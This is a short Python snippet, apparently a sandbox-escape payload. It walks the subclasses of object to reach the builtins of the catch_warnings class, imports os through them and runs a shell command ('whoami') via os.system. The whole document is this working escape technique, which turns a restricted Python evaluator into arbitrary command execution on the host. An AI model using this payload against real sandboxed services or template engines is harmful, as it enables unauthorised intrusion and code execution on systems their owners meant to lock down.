# class-walk: catch_warnings' module gives back the builtins and so __import__
for c in object.__subclasses__():
    if c.__name__ == "catch_warnings":
        b = c()._module.__builtins__
        b["__import__"]("os").system("whoami")
